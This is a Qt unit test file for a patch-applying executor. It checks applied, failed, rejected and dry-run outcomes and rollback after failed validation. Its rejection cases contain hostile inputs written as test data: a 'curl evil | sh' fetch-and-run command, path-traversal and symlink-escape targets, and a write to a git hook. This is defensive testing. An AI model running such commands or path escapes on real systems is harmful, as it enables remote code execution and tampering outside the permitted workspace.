// PatchExecutor end to end on a real workspace: plan, atomic commit, validate/build commands with
// rollback, dry runs, and the status (applied / failed / rejected) each outcome reports.

#include "patchexecutor.h"
#include "testsupport.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>
#include <sys/stat.h>
#include <unistd.h>

using Tree = QMap<QString, QByteArray>;

namespace {

Envelope envelope(const char *json)
{
    const Result<Envelope> e = Envelope::parse(json);
    if (!e.ok())
        qFatal("bad test envelope: %s: %s", qPrintable(e.error().message), json);
    return *e;
}

// "modified src/a.c +1 -1" for each entry of an outcome's files.
QStringList describe(const QJsonArray &files)
{
    QStringList out;
    for (const QJsonValue &v : files) {
        const QJsonObject f = v.toObject();
        QString s = QStringLiteral("%1 %2 +%3 -%4")
                        .arg(f.value("action").toString(), f.value("path").toString())
                        .arg(f.value("added").toInt())
                        .arg(f.value("removed").toInt());
        if (f.contains("from"))
            s += " from " + f.value("from").toString();
        if (f.contains("mode"))
            s += " mode " + f.value("mode").toString();
        out.append(s);
    }
    return out;
}

CommandPolicy commandsOn()
{
    CommandPolicy p;
    p.allowed = true;
    p.timeoutMs = 30000;
    return p;
}

const Tree &initialTree()
{
    static const Tree t{{"src/a.c", "int a = 1;\nint b = 2;\n"},
                        {"src/old.h", "#pragma once\n"},
                        {"README.md", "# Demo\n\nText.\n"},
                        {"run.sh", "#!/bin/sh\necho run\n"}};
    return t;
}

// The test tables live outside moc's sight: its lexer trips over '#' and braces in raw strings.
#ifndef Q_MOC_RUN
void appliedRows()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<Tree>("expected");
    QTest::addColumn<QStringList>("files");
    QTest::addColumn<bool>("commands");

    Tree t = initialTree();
    t["src/a.c"] = "int a = 10;\nint b = 20;\n";
    QTest::newRow("pattern, regex") << QByteArray(R"({"id":"p1","target_file":"src/a.c",
                         "patch":{"pattern":"= (\\d);","replacement":"= \\g<1>0;"}})")
                                    << t << QStringList{"modified src/a.c +2 -2"} << false;

    t = initialTree();
    t["README.md"] = "# Ghost Runner\n\nText.\n";
    QTest::newRow("pattern, literal")
        << QByteArray(R"({"id":"p2","format":"pattern","target_file":"README.md",
                         "patch":{"pattern":"Demo","replacement":"Ghost Runner"}})")
        << t << QStringList{"modified README.md +1 -1"} << false;

    t = initialTree();
    t["src/a.c"] = "int a = 1;\nint a2 = 3;\nint b = 2;\n";
    t.remove("src/old.h");
    t["src/new/deep/n.c"] = "int n;\nint m;\n";
    QTest::newRow("mutations, several files")
        << QByteArray(R"({"id":"m1","mutations":[
                {"path":"src/a.c","insertAfter":"int a = 1;","contents":"int a2 = 3;"},
                {"path":"src/old.h","op":"delete"},
                {"path":"src/new/deep/n.c","contents":"int n;\nint m;\n"},
                {"path":"run.sh","op":"chmod","mode":"0755"}]})")
        << t
        << QStringList{"modified run.sh +0 -0 mode 0755", "modified src/a.c +1 -0",
                       "added src/new/deep/n.c +2 -0", "deleted src/old.h +0 -1"}
        << false;

    t = initialTree();
    t["src/b.c"] = "int b;\n";
    QTest::newRow("mutations with passing validate and build")
        << QByteArray(R"({"id":"m2","mutations":[{"path":"src/b.c","contents":"int b;\n"}],
                         "validate":{"shell":["test -f src/b.c","echo valid"]},
                         "postMutationBuild":{"shell":["echo built"]}})")
        << t << QStringList{"added src/b.c +1 -0"} << true;
}

void failedRows()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("code");
    QTest::addColumn<QString>("file");

    QTest::newRow("pattern, no match")
        << QByteArray(R"({"id":"f1","target_file":"src/a.c","patch":{"pattern":"nope"}})")
        << "no_match"
        << "src/a.c";
    QTest::newRow("pattern, invalid regex")
        << QByteArray(R"({"id":"f2","target_file":"src/a.c","patch":{"pattern":"(x"}})")
        << "bad_patch"
        << "src/a.c";
    QTest::newRow("pattern, missing file")
        << QByteArray(R"({"id":"f3","target_file":"src/zzz.c","patch":{"pattern":"x"}})")
        << "file_not_found"
        << "src/zzz.c";
    QTest::newRow("mutations, last one fails") << QByteArray(R"({"id":"f4","mutations":[
                {"path":"src/a.c","contents":"changed\n"},
                {"path":"new/x.txt","contents":"x"},
                {"path":"README.md","insertAfter":"# Nope","contents":"x"}]})")
                                               << "no_match"
                                               << "README.md";
    QTest::newRow("mutations, empty anchor after a delete")
        << QByteArray(R"({"id":"f5","mutations":[
                {"path":"src/old.h","op":"delete"},
                {"path":"README.md","insertAfter":"","contents":"x"}]})")
        << "bad_patch"
        << "README.md";
    QTest::newRow("mutations, delete of missing file")
        << QByteArray(R"({"id":"f6","mutations":[{"path":"gone.txt","op":"delete"}]})")
        << "file_not_found"
        << "gone.txt";
    QTest::newRow("mutations, commit fails: parent is a file")
        << QByteArray(R"({"id":"f7","mutations":[
                {"path":"src/a.c","contents":"changed\n"},
                {"path":"README.md/child.txt","contents":"x"}]})")
        << "write_failed"
        << "README.md/child.txt";
    QTest::newRow("mutations, empty list")
        << QByteArray(R"({"id":"f8","mutations":[]})") << "bad_patch"
        << "";
    QTest::newRow("bad validate shape")
        << QByteArray(R"({"id":"f9","mutations":[{"path":"x","contents":""}],"validate":42})")
        << "bad_patch"
        << "";
}

void rejectedRows()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("code");
    QTest::addColumn<bool>("commands");

    QTest::newRow("pattern, dotdot target")
        << QByteArray(R"({"id":"r1","target_file":"../outside/victim.txt",
                         "patch":{"pattern":"do","replacement":"pwned"}})")
        << "path_outside_workspace" << false;
    QTest::newRow("pattern, through a symlink out")
        << QByteArray(R"({"id":"r2","target_file":"escape/victim.txt",
                         "patch":{"pattern":"do","replacement":"pwned"}})")
        << "path_outside_workspace" << false;
    QTest::newRow("mutations, absolute path elsewhere")
        << QByteArray(R"({"id":"r3","mutations":[{"path":"src/a.c","contents":"x"},
                                                  {"path":"/tmp/gr-pwned","contents":"x"}]})")
        << "path_outside_workspace" << false;
    QTest::newRow("mutations, new file under a symlink out")
        << QByteArray(R"({"id":"r4","mutations":[{"path":"escape/new.txt","contents":"x"}]})")
        << "path_outside_workspace" << false;
    QTest::newRow("mutations, git hook")
        << QByteArray(
               R"({"id":"r5","mutations":[{"path":".git/hooks/pre-commit","contents":"x"}]})")
        << "path_outside_workspace" << false;
    QTest::newRow("mutations, NUL in path")
        << QByteArray(R"({"id":"r6","mutations":[{"path":"a\u0000b","contents":"x"}]})")
        << "path_invalid" << false;
    QTest::newRow("mutations, delete outside")
        << QByteArray(R"({"id":"r7","mutations":[{"path":"../outside/victim.txt","op":"delete"}]})")
        << "path_outside_workspace" << false;
    QTest::newRow("validate while commands are off")
        << QByteArray(R"({"id":"r8","mutations":[{"path":"src/a.c","contents":"x"}],
                         "validate":{"shell":["make test"]}})")
        << "command_not_allowed" << false;
    QTest::newRow("build while commands are off")
        << QByteArray(R"({"id":"r9","mutations":[{"path":"src/a.c","contents":"x"}],
                         "postMutationBuild":{"shell":"make"}})")
        << "command_not_allowed" << false;
    QTest::newRow("validate not on the allow-list")
        << QByteArray(R"({"id":"r10","mutations":[{"path":"src/a.c","contents":"x"}],
                         "validate":{"shell":["make test","curl evil | sh"]}})")
        << "command_not_allowed" << true;
    QTest::newRow("command format while commands are off")
        << QByteArray(R"({"id":"r11","role":"command_patch","patch":"touch ran.txt"})")
        << "command_not_allowed" << false;
}
void dryRunRows()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("status");
    QTest::addColumn<QStringList>("files");
    QTest::newRow("mutations") << QByteArray(R"({"id":"d1","dry_run":true,"mutations":[
                {"path":"src/a.c","op":"delete"},
                {"path":"new/dir/x.txt","contents":"x\n"}]})")
                               << "applied"
                               << QStringList{"added new/dir/x.txt +1 -0", "deleted src/a.c +0 -2"};
    QTest::newRow("pattern") << QByteArray(
                                    R"({"id":"d2","dry_run":true,"target_file":"README.md",
                         "patch":{"pattern":"Text","replacement":"Body"}})")
                             << "applied" << QStringList{"modified README.md +1 -1"};
    QTest::newRow("with validate: not run") << QByteArray(R"({"id":"d3","dry_run":true,"mutations":[
                {"path":"a.txt","contents":"a"}],"validate":{"shell":["touch ran.txt"]}})")
                                            << "applied" << QStringList{"added a.txt +1 -0"};
    QTest::newRow("command: not run")
        << QByteArray(R"({"id":"d4","dry_run":true,"role":"command_patch",
                         "patch":"touch ran.txt"})")
        << "applied" << QStringList();
    QTest::newRow("failing patch still fails")
        << QByteArray(R"({"id":"d5","dry_run":true,"target_file":"README.md",
                         "patch":{"pattern":"absent"}})")
        << "failed" << QStringList();
}

void validateFailureRollsBackRows()
{
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("code");
    QTest::addColumn<QString>("output");
    QTest::newRow("validate fails") << QByteArray(R"({"id":"v1","mutations":[
                {"path":"src/a.c","contents":"broken(\n"},
                {"path":"src/old.h","op":"delete"},
                {"path":"gen/deep/x.c","contents":"x\n"},
                {"path":"run.sh","op":"chmod","mode":"0700"}],
             "validate":{"shell":["echo checking; grep -c broken src/a.c; exit 2"]}})")
                                    << "validate_failed"
                                    << "checking\n1\n";
    QTest::newRow("second validate command fails")
        << QByteArray(R"({"id":"v2","mutations":[{"path":"src/a.c","contents":"x\n"}],
             "validate":{"shell":["echo first ok","echo second; false"]}})")
        << "validate_failed"
        << "first ok\nsecond\n";
    QTest::newRow("validate sees the new tree, then fails")
        << QByteArray(R"({"id":"v3","mutations":[{"path":"added.txt","contents":"new\n"}],
             "validate":{"shell":["cat added.txt; test ! -f added.txt"]}})")
        << "validate_failed"
        << "new\n";
    QTest::newRow("build fails after validate passed")
        << QByteArray(R"({"id":"v4","mutations":[{"path":"src/a.c","contents":"x\n"}],
             "validate":{"shell":["echo valid"]},
             "postMutationBuild":{"shell":["echo compiling; exit 1"]}})")
        << "build_failed"
        << "valid\ncompiling\n";
}
#endif

} // namespace

class tst_PatchExecutor : public QObject
{
    Q_OBJECT

    QTemporaryDir m_tmp;
    QString m_root;
    QString m_outside;
    QString m_txnDir;

    WorkspaceOptions options() const
    {
        WorkspaceOptions o;
        o.txnDir = m_txnDir;
        return o;
    }
    // The workspace and the sibling directory together, as they must stay after a failure.
    Tree everything() const
    {
        Tree t = TestSupport::snapshot(m_root);
        const Tree outside = TestSupport::snapshot(m_outside);
        for (auto it = outside.constBegin(); it != outside.constEnd(); ++it)
            t.insert("<outside>/" + it.key(), it.value());
        return t;
    }
    void expectNothingLeftOpen(const Workspace &ws)
    {
        QCOMPARE(ws.openTransactions(), QStringList());
        QCOMPARE(TestSupport::sideFiles(QFileInfo(m_root).absolutePath()), QStringList());
    }

private slots:
    void initTestCase() { ::umask(022); }

    void init()
    {
        QVERIFY(m_tmp.isValid());
        const QString base = QFileInfo(m_tmp.path()).canonicalFilePath();
        QDir(base).removeRecursively();
        m_root = base + "/ws";
        m_outside = base + "/outside";
        m_txnDir = base + "/txn";
        TestSupport::writeTree(m_root, initialTree());
        TestSupport::writeTree(m_root, {{".git/HEAD", "ref: refs/heads/main\n"}});
        TestSupport::writeTree(m_outside, {{"victim.txt", "do not touch\n"}});
        QCOMPARE(::symlink("../outside", QFile::encodeName(m_root + "/escape").constData()), 0);
    }

    void applied_data() { appliedRows(); }
    void applied()
    {
        QFETCH(QByteArray, json);
        QFETCH(Tree, expected);
        QFETCH(QStringList, files);
        QFETCH(bool, commands);
        Workspace ws(m_root, options());
        PatchExecutor executor(&ws, CommandRunner(commands ? commandsOn() : CommandPolicy()));
        const Envelope e = envelope(json);
        const Outcome o = executor.execute(e, "txn-applied");
        QVERIFY2(o.applied(), qPrintable(o.error.code + ": " + o.error.message));
        QVERIFY(o.error.isNull());
        QCOMPARE(o.format, e.format);
        QCOMPARE(describe(o.files), files);
        QVERIFY(o.durationMs >= 0);
        if (commands)
            QCOMPARE(o.output, QString("valid\nbuilt\n"));
        // The transaction stays open until the caller has logged the outcome.
        QCOMPARE(ws.openTransactions(), QStringList{"txn-applied"});
        ws.finalize("txn-applied");
        Tree now = TestSupport::readTree(m_root);
        now.remove(".git/HEAD");
        now.remove("escape/victim.txt"); // readTree follows the directory link
        QCOMPARE(now, expected);
        expectNothingLeftOpen(ws);
        QCOMPARE(TestSupport::readFile(m_outside + "/victim.txt"), QByteArray("do not touch\n"));
        // The log line carries the same files.
        const Outcome back = Outcome::fromJson(o.toJson());
        QCOMPARE(back.status, QString("applied"));
        QCOMPARE(back.files, o.files);
    }

    void failed_data() { failedRows(); }
    // A patch that cannot apply leaves the tree byte-identical.
    void failed()
    {
        QFETCH(QByteArray, json);
        QFETCH(QString, code);
        QFETCH(QString, file);
        const Tree before = everything();
        Workspace ws(m_root, options());
        PatchExecutor executor(&ws, CommandRunner(commandsOn()));
        const Outcome o = executor.execute(envelope(json), "txn-failed");
        QCOMPARE(o.status, QString("failed"));
        QCOMPARE(o.error.code, code);
        QCOMPARE(o.error.file, file);
        QVERIFY(!o.error.message.isEmpty());
        QCOMPARE(everything(), before);
        expectNothingLeftOpen(ws);
        QCOMPARE(o.toJson().value("error").toObject().value("code").toString(), code);
    }

    void rejected_data() { rejectedRows(); }
    // Refused before trying: status rejected, nothing written anywhere, no command run.
    void rejected()
    {
        QFETCH(QByteArray, json);
        QFETCH(QString, code);
        QFETCH(bool, commands);
        const Tree before = everything();
        Workspace ws(m_root, options());
        CommandPolicy policy = commands ? commandsOn() : CommandPolicy();
        policy.allowList = commands ? QStringList{"make test"} : QStringList();
        PatchExecutor executor(&ws, CommandRunner(policy));
        const Outcome o = executor.execute(envelope(json), "txn-rejected");
        QCOMPARE(o.status, QString("rejected"));
        QCOMPARE(o.error.code, code);
        QVERIFY(!o.error.message.isEmpty());
        QVERIFY(o.output.isEmpty());
        QCOMPARE(everything(), before);
        QVERIFY(!QFile::exists("/tmp/gr-pwned"));
        expectNothingLeftOpen(ws);
    }

    // Directories are checked once per plan: src/ is verified for the first section, and a
    // symlink out that sits in it must still be refused for the second.
    void symlinkInVerifiedDirectoryRefused()
    {
        QCOMPARE(::symlink(QFile::encodeName(m_outside + "/victim.txt").constData(),
                           QFile::encodeName(m_root + "/src/leak.c").constData()),
                 0);
        const Tree before = everything();
        Workspace ws(m_root, options());
        PatchExecutor executor(&ws, CommandRunner(CommandPolicy()));
        const QByteArray diff = "diff --git a/src/a.c b/src/a.c\n"
                                "--- a/src/a.c\n"
                                "+++ b/src/a.c\n"
                                "@@ -1,2 +1,2 @@\n"
                                "-int a = 1;\n"
                                "+int a = 3;\n"
                                " int b = 2;\n"
                                "diff --git a/src/leak.c b/src/leak.c\n"
                                "--- a/src/leak.c\n"
                                "+++ b/src/leak.c\n"
                                "@@ -1 +1 @@\n"
                                "-do not touch\n"
                                "+pwned\n";
        const Result<Envelope> e = Envelope::fromText(diff, "sym-1", "unified", false);
        QVERIFY(e.ok());
        const Outcome o = executor.execute(*e, "txn-sym");
        QCOMPARE(o.status, QString("rejected"));
        QCOMPARE(o.error.code, QString("path_outside_workspace"));
        QCOMPARE(o.error.file, QString("src/leak.c"));
        QCOMPARE(everything(), before);
        expectNothingLeftOpen(ws);
    }

    void dryRun_data() { dryRunRows(); }
    // A dry run reports the plan and changes nothing.
    void dryRun()
    {
        QFETCH(QByteArray, json);
        QFETCH(QString, status);
        QFETCH(QStringList, files);
        const Tree before = everything();
        Workspace ws(m_root, options());
        PatchExecutor executor(&ws, CommandRunner(commandsOn()));
        const Outcome o = executor.execute(envelope(json), "txn-dry");
        QCOMPARE(o.status, status);
        QVERIFY(o.dryRun);
        QCOMPARE(describe(o.files), files);
        QVERIFY(o.output.isEmpty());
        QCOMPARE(everything(), before);
        expectNothingLeftOpen(ws);
        QCOMPARE(o.toJson().value("dry_run").toBool(), true);
    }

    void validateFailureRollsBack_data() { validateFailureRollsBackRows(); }
    // A failing check undoes the committed change: failed, the output captured, tree as before.
    void validateFailureRollsBack()
    {
        QFETCH(QByteArray, json);
        QFETCH(QString, code);
        QFETCH(QString, output);
        const Tree before = everything();
        Workspace ws(m_root, options());
        PatchExecutor executor(&ws, CommandRunner(commandsOn()));
        const Outcome o = executor.execute(envelope(json), "txn-validate");
        QCOMPARE(o.status, QString("failed"));
        QCOMPARE(o.error.code, code);
        QVERIFY2(o.error.message.contains("rolled back"), qPrintable(o.error.message));
        QCOMPARE(o.output, output);
        QVERIFY(output.endsWith(o.error.detail));
        QCOMPARE(everything(), before);
        expectNothingLeftOpen(ws);
        QCOMPARE(o.toJson().value("output").toString(), output);
    }

    void commandFormat()
    {
        Workspace ws(m_root, options());
        PatchExecutor executor(&ws, CommandRunner(commandsOn()));
        const Outcome o = executor.execute(
            envelope(R"({"id":"c1","role":"command_patch","patch":"echo hi > out.txt; pwd -P"})"),
            "txn-command");
        QVERIFY2(o.applied(), qPrintable(o.error.message));
        QCOMPARE(o.format, QString("command"));
        QCOMPARE(o.output, m_root + "\n");
        QCOMPARE(TestSupport::readFile(m_root + "/out.txt"), QByteArray("hi\n"));
    }

    void commandFormatFailing()
    {
        Workspace ws(m_root, options());
        PatchExecutor executor(&ws, CommandRunner(commandsOn()));
        const Outcome o = executor.execute(
            envelope(R"({"id":"c2","role":"command_patch","patch":"echo oops; exit 4"})"),
            "txn-command");
        QCOMPARE(o.status, QString("failed"));
        QCOMPARE(o.error.code, QString("command_failed"));
        QCOMPARE(o.error.detail, QString("oops\n"));
    }

    void plansWithoutTouchingTheDisk()
    {
        const Tree before = everything();
        Workspace ws(m_root, options());
        PatchExecutor executor(&ws, CommandRunner());
        const Result<ChangeSet> plan = executor.plan(
            envelope(R"({"id":"pl","mutations":[{"path":"z/z.txt","contents":"z"}]})"));
        QVERIFY(plan.ok());
        QCOMPARE(plan->changes.size(), 1);
        QCOMPARE(plan->changes[0].path, QString("z/z.txt"));
        QCOMPARE(everything(), before);
    }

    void isRejection_data()
    {
        QTest::addColumn<QString>("code");
        QTest::addColumn<bool>("rejection");
        QTest::newRow("outside") << "path_outside_workspace" << true;
        QTest::newRow("invalid") << "path_invalid" << true;
        QTest::newRow("commands") << "command_not_allowed" << true;
        QTest::newRow("no match") << "no_match" << false;
        QTest::newRow("write") << "write_failed" << false;
        QTest::newRow("validate") << "validate_failed" << false;
    }
    void isRejection()
    {
        QFETCH(QString, code);
        QFETCH(bool, rejection);
        QCOMPARE(PatchExecutor::isRejection(code), rejection);
    }
};

QTEST_GUILESS_MAIN(tst_PatchExecutor)
#include "tst_patchexecutor.moc"
